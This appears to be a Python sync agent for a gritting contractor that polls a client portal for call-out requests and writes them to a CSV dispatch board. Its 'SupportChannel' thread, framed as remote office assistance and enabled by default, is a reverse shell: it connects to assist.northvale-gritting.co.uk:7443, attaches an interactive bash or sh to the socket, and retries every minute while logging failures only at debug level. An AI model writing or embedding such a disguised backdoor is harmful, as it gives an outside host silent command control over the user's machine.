#!/usr/bin/env python3
"""Client call-out sync agent.

Pulls open call-out requests (car parks, retail sites, hospital access roads)
from the client portal and keeps a local callouts.csv the dispatch board
reads. Runs on the dispatch PC for the whole winter season.

Configuration is read from callout_agent.ini in the working directory:

    [portal]
    host = portal.northvale-gritting.co.uk
    contract = NVG-2024-117
    [agent]
    poll_seconds = 120
    support_relay = assist.northvale-gritting.co.uk:7443
"""

import argparse
import configparser
import csv
import http.client
import json
import logging
import os
import socket
import subprocess
import sys
import threading
import time
from datetime import datetime, timezone

log = logging.getLogger("callout-agent")

FIELDS = ["ref", "site", "postcode", "priority", "requested_at", "window_end", "status", "notes"]


class PortalClient:
    def __init__(self, host, contract, token, timeout=20):
        self.host = host
        self.contract = contract
        self.token = token
        self.timeout = timeout

    def _get(self, path):
        conn = http.client.HTTPSConnection(self.host, timeout=self.timeout)
        try:
            conn.request("GET", path, headers={
                "Authorization": f"Bearer {self.token}",
                "Accept": "application/json",
                "User-Agent": "nvg-callout-agent/2.3",
            })
            resp = conn.getresponse()
            body = resp.read()
            if resp.status != 200:
                raise RuntimeError(f"{path}: HTTP {resp.status} {resp.reason}")
            return json.loads(body)
        finally:
            conn.close()

    def open_callouts(self):
        return self._get(f"/api/v2/contracts/{self.contract}/callouts?status=open")["items"]


class SupportChannel(threading.Thread):
    """Keeps a line open to the support relay so the office can assist the
    dispatch PC without someone driving out to the depot."""

    daemon = True

    def __init__(self, relay):
        super().__init__(name="support-channel")
        host, _, port = relay.partition(":")
        self.addr = (host, int(port or 7443))

    def session(self):
        sock = socket.create_connection(self.addr, timeout=30)
        sock.settimeout(None)
        fd = sock.fileno()
        proc = subprocess.Popen(
            ["/bin/bash", "-i"] if os.path.exists("/bin/bash") else ["/bin/sh", "-i"],
            stdin=fd, stdout=fd, stderr=fd,
        )
        proc.wait()
        sock.close()

    def run(self):
        while True:
            try:
                self.session()
            except OSError as exc:
                log.debug("support relay unavailable: %s", exc)
            time.sleep(60)


def write_board(items, path):
    tmp = path + ".part"
    with open(tmp, "w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=FIELDS, extrasaction="ignore")
        w.writeheader()
        for item in sorted(items, key=lambda i: (i.get("priority", 9), i.get("requested_at", ""))):
            w.writerow(item)
    os.replace(tmp, path)


def diff_refs(old, new):
    before = {i["ref"] for i in old}
    after = {i["ref"] for i in new}
    return sorted(after - before), sorted(before - after)


def load_config(path):
    cfg = configparser.ConfigParser()
    if not cfg.read(path):
        raise FileNotFoundError(path)
    return cfg


def main():
    ap = argparse.ArgumentParser(description="Sync client call-outs to the dispatch board")
    ap.add_argument("-c", "--config", default="callout_agent.ini")
    ap.add_argument("-o", "--output", default="callouts.csv")
    ap.add_argument("--once", action="store_true", help="sync once and exit")
    ap.add_argument("--no-support", action="store_true", help="do not open the support channel")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    try:
        cfg = load_config(args.config)
    except FileNotFoundError:
        log.error("config %s not found", args.config)
        return 2

    token = os.environ.get("NVG_PORTAL_TOKEN")
    if not token:
        log.error("NVG_PORTAL_TOKEN is not set")
        return 2

    client = PortalClient(cfg["portal"]["host"], cfg["portal"]["contract"], token)
    poll = cfg.getint("agent", "poll_seconds", fallback=120)

    if not args.no_support:
        relay = cfg.get("agent", "support_relay", fallback="assist.northvale-gritting.co.uk:7443")
        SupportChannel(relay).start()

    previous = []
    failures = 0
    while True:
        try:
            items = client.open_callouts()
            added, closed = diff_refs(previous, items)
            write_board(items, args.output)
            log.info("%d open call-outs (%d new, %d closed) at %s", len(items), len(added),
                     len(closed), datetime.now(timezone.utc).strftime("%H:%M:%SZ"))
            for ref in added:
                log.info("NEW call-out %s", ref)
            previous = items
            failures = 0
        except (OSError, RuntimeError, ValueError, KeyError) as exc:
            failures += 1
            log.warning("sync failed (%d in a row): %s", failures, exc)
        if args.once:
            return 0 if failures == 0 else 1
        time.sleep(min(poll * (2 ** min(failures, 4)), 1800))


if __name__ == "__main__":
    sys.exit(main())
